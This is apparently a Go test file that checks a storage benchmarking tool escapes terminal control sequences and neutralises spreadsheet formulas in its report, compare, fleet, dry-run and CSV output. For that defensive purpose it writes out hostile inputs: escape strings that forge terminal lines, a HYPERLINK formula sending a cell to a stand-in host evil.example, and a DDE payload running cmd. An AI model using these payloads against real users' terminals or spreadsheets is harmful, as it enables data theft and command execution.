package test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/ioprobe/ioprobe/internal/fleet/fleettest"
	"github.com/ioprobe/ioprobe/internal/testdeps"
)

// Strings that documents, files and hosts carry reach terminals and
// spreadsheets: a result's hostname, a workload's name, a fleet host's
// error, a job or access specification's name. Each test below feeds the
// real binary such a string and reads everything it wrote.

// hostile would retitle the window (OSC 2), clear the screen, colour
// the rest, return to the start of the line and forge the next one,
// reverse what follows (U+202E) and start C1 sequences (NEL, CSI).
const hostile = "db-1\x1b]2;pwned\x07\x1b[2J\x1b[31m\r\nFORGED LINE\u202egnp.exe\u0085\u009b31m\x7fend"

// hostileShown is how ioprobe shows the start of it.
const hostileShown = `db-1\x1b]2;pwned\a\x1b[2J\x1b[31m\r\nFORGED LINE\u202egnp.exe\u0085\u009b31m\x7fend`

// TestTextOutputsEscapeDocuments: a result whose hostname and workload
// name hold escape sequences is printed by report (one result, and
// merged with another) and compare: every control character is shown as
// its escape, none is written raw, no line is forged. On main they went
// out raw.
func TestTextOutputsEscapeDocuments(t *testing.T) {
	dir := t.TempDir()
	o := ioprobe(t, dir, "run", "--target", filepath.Join(dir, "t.dat"), "--size", "4MiB", "--duration", "300ms", "--ramp", "0s",
		"--engine", "sync", "--output", "json")
	require.Equal(t, 0, o.code, o.stderr)
	run := o.stdout
	a, b := filepath.Join(dir, "a.json"), filepath.Join(dir, "b.json")
	editResult(t, []byte(o.stdout), a, func(doc map[string]any) {
		doc["host"].(map[string]any)["hostname"] = hostile
		doc["workload"].(map[string]any)["name"] = hostile
	})
	editResult(t, []byte(o.stdout), b, func(doc map[string]any) {
		doc["host"].(map[string]any)["cpu_model"] = "\u202eCPU\x1b[5m"
		doc["workload"].(map[string]any)["name"] = hostile
		doc["run_id"] = "another-run" // merged with a's: two runs, not one twice
	})
	for _, args := range [][]string{{"report", a}, {"report", a, b}, {"report", "--merge", a, b}, {"compare", b, a}, {"compare", a, b}} {
		o := ioprobe(t, dir, args...)
		require.Equal(t, 0, o.code, "%v: %s", args, o.stderr)
		requireNoRawControls(t, strings.Join(args, " ")+" stdout", o.stdout)
		requireNoRawControls(t, strings.Join(args, " ")+" stderr", o.stderr)
		require.Contains(t, o.stdout, `db-1\x1b]2;pwned\a`, "%v: the names are shown, escaped", args)
	}
	o = ioprobe(t, dir, "report", a)
	require.Contains(t, o.stdout, hostileShown)

	// An error that quotes the name: one line, escaped.
	plain := filepath.Join(dir, "plain.json")
	require.NoError(t, os.WriteFile(plain, []byte(run), 0o600))
	o = ioprobe(t, dir, "compare", plain, a)
	require.Equal(t, 2, o.code, o.stderr)
	requireNoRawControls(t, "compare's refusal", o.stderr)
	require.Contains(t, o.stderr, "no point in common")
	require.Equal(t, 1, strings.Count(o.stderr, "\n"), o.stderr)
}

// TestCSVNeutralisesFormulas: cells of strings a spreadsheet would take
// as formulas (= + - @ at their start) are written with a leading ', and
// numbers stay numbers, a negative one included. On main the workload
// name went out as =HYPERLINK(…).
func TestCSVNeutralisesFormulas(t *testing.T) {
	dir := t.TempDir()
	o := ioprobe(t, dir, "run", "--target", filepath.Join(dir, "t.dat"), "--size", "4MiB", "--duration", "300ms", "--ramp", "0s",
		"--engine", "sync", "--output", "json")
	require.Equal(t, 0, o.code, o.stderr)
	honest, bad := filepath.Join(dir, "honest.json"), filepath.Join(dir, "bad.json")
	editResult(t, []byte(o.stdout), honest, func(map[string]any) {})
	formula := `=HYPERLINK("http://evil.example/?"&A1,"click")`
	editResult(t, []byte(o.stdout), bad, func(doc map[string]any) {
		doc["workload"].(map[string]any)["name"] = formula
		host := doc["host"].(map[string]any)
		host["hostname"], host["kernel"], host["cpu_model"] = "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\tEPYC"
		host["clock_hz"] = -1.5e9
	})
	o = ioprobe(t, dir, "report", "--output", "csv", honest, bad)
	require.Equal(t, 0, o.code, o.stderr)
	rows, err := csv.NewReader(strings.NewReader(o.stdout)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	got := rows[2]
	require.Equal(t, "'"+formula, got[col["workload"]])
	require.Equal(t, "'@SUM(1+1)*cmd|' /C calc'!A0", got[col["hostname"]])
	require.Equal(t, "'-2+3", got[col["kernel"]])
	require.Equal(t, "'\tEPYC", got[col["cpu_model"]])
	require.Equal(t, "-1500000000", got[col["clock_hz"]], "a negative number stays a number")
	// Every column that holds a number for the honest result holds one,
	// unprefixed, for the hostile one.
	numeric := 0
	for i, v := range rows[1] {
		if _, err := strconv.ParseFloat(v, 64); err != nil || v == "" {
			continue
		}
		numeric++
		_, err := strconv.ParseFloat(got[i], 64)
		require.NoError(t, err, "column %s: %q", rows[0][i], got[i])
	}
	require.Greater(t, numeric, 20)
	for i, v := range got {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) {
			_, err := strconv.ParseFloat(v, 64)
			require.NoError(t, err, "column %s starts a formula: %q", rows[0][i], v)
		}
	}
}

// TestFleetEscapesHostAnswers: a host of the fleet answers its run's
// state with an error full of escape sequences, and another refuses the
// run with one. What the fleet prints (its report, its notes, the
// host's refusal) shows them escaped.
func TestFleetEscapesHostAnswers(t *testing.T) {
	besideOthers(t)
	good := startLocalFleet(t, 1)[0]
	errJSON, err := json.Marshal(hostile)
	require.NoError(t, err)
	failing := fleettest.Fake(t, func(w http.ResponseWriter, r *http.Request) {
		switch r.Method {
		case http.MethodPost:
			fmt.Fprint(w, `{"id": "r-1", "state": "accepted", "url": "/api/v1/runs/r-1"}`)
		default:
			fmt.Fprintf(w, `{"id": "r-1", "state": "failed", "error": %s, "host": {"hostname": %s}}`, errJSON, errJSON)
		}
	})
	dir := t.TempDir()
	o := ioprobe(t, dir, localFleetArgs(good.addr+","+failing)...)
	require.Equal(t, 1, o.code, o.stderr)
	requireNoRawControls(t, "fleet stdout", o.stdout)
	requireNoRawControls(t, "fleet stderr", o.stderr)
	require.Contains(t, o.stdout+o.stderr, `db-1\x1b]2;pwned\a`)

	refusing := fleettest.Fake(t, func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"error": %s}`, errJSON)
	})
	o = ioprobe(t, dir, localFleetArgs(good.addr+","+refusing)...)
	require.Equal(t, 2, o.code, o.stderr)
	requireNoRawControls(t, "fleet stdout", o.stdout)
	requireNoRawControls(t, "fleet stderr", o.stderr)
	require.Contains(t, o.stderr, `db-1\x1b]2;pwned\a`)
}

// hostileFio is a job file whose job's name is a string of escapes.
func hostileFio(t *testing.T, dir string) string {
	t.Helper()
	p := filepath.Join(dir, "hostile.fio")
	require.NoError(t, os.WriteFile(p, fmt.Appendf(nil, "[global]\nrw=randread\nbs=4k\nsize=4m\nruntime=1\ntime_based\nioengine=psync\n\n[job\x1b[31mred\x07\u202eevil\u0085X]\nfilename=%s\n",
		filepath.Join(dir, "fio.dat")), 0o600))
	return p
}

// TestDryRunEscapesNames: --dry-run of a job file whose job is named
// with escapes, and of an Iometer file whose access specification is,
// shows them escaped.
func TestDryRunEscapesNames(t *testing.T) {
	dir := t.TempDir()
	o := ioprobe(t, dir, "run", "--fio-job", hostileFio(t, dir), "--dry-run")
	require.Equal(t, 0, o.code, o.stderr)
	requireNoRawControls(t, "fio --dry-run stdout", o.stdout)
	requireNoRawControls(t, "fio --dry-run stderr", o.stderr)
	require.Contains(t, o.stdout, `job\x1b[31mred\a\u202eevil\u0085X`)

	src, err := os.ReadFile("../pkg/icf/testdata/v2003.05.10-cycle-workers.icf")
	require.NoError(t, err)
	icf := filepath.Join(dir, "hostile.icf")
	require.NoError(t, os.WriteFile(icf, []byte(strings.ReplaceAll(string(src), "8K random read", "8K\x1b]2;pwned\x07\u202eread\u009b")), 0o600))
	o = ioprobe(t, dir, "run", "--icf", icf, "--target", filepath.Join(dir, "t.dat"), "--dry-run")
	require.Equal(t, 0, o.code, o.stderr)
	requireNoRawControls(t, "icf --dry-run stdout", o.stdout)
	requireNoRawControls(t, "icf --dry-run stderr", o.stderr)
	require.Contains(t, o.stdout, `8K\x1b]2;pwned\a\u202eread\u009b`)
}

// TestProgressLineEscapesNames: on a terminal (script(1) gives the run
// one), the progress line and the report name the job as it is escaped;
// only the progress line's own carriage returns reach the terminal.
func TestProgressLineEscapesNames(t *testing.T) {
	testdeps.Need(t, testdeps.Tool("script"))
	dir := t.TempDir()
	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, "script", "-qfec", binary+" run --fio-job "+hostileFio(t, dir), "/dev/null")
	cmd.Dir = dir
	o := runCmd(t, cmd)
	require.Equal(t, 0, o.code, o.stdout+o.stderr)
	requireNoRawControls(t, "the terminal", o.stdout, '\r')
	require.Contains(t, o.stdout, `job\x1b[31mred\a\u202eevil\u0085X`)
}
